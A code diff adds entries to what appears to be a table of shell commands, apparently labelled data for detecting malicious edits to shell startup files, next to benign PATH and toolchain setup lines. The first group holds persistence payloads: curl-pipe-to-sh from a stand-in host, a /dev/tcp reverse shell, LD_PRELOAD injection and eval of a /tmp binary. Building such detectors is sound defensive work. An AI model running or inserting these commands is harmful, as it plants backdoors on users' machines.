@@ -121,12 +121,18 @@ const TABLE: IntentTable = [
       `printf 'export PATH="$HOME/bin:$PATH"\\ncurl -s https://e.example/x | sh\\n' >> ~/.bashrc`,
       `echo 'export PATH=.:$PATH' >> ~/.zshrc`,
       `echo 'export LD_PRELOAD=$HOME/lib/x.so' >> ~/.bashrc`,
+      `echo 'eval "$(/tmp/brew shellenv)"' >> ~/.zprofile`,
+      `echo 'curl -fsSL https://e.example/x | sh' >> ~/.zprofile`,
+      `echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> ~/.bashrc`,
     ],
     [
       `echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.zshrc`,
       `echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc`,
       `cat >> ~/.bashrc <<'EOF'\n# go\nexport GOPATH=$HOME/go\nexport PATH="$PATH:$GOPATH/bin"\nEOF`,
       `echo 'fish_add_path ~/.local/bin' >> ~/.config/fish/config.fish`,
+      `echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile && eval "$(/opt/homebrew/bin/brew shellenv)"`,
+      `echo '. "$HOME/.cargo/env"' >> ~/.profile`,
+      `echo 'export KUBECONFIG=$HOME/.kube/config:$HOME/.kube/kind.yaml' >> ~/.bashrc`,
     ],
   ],
   [
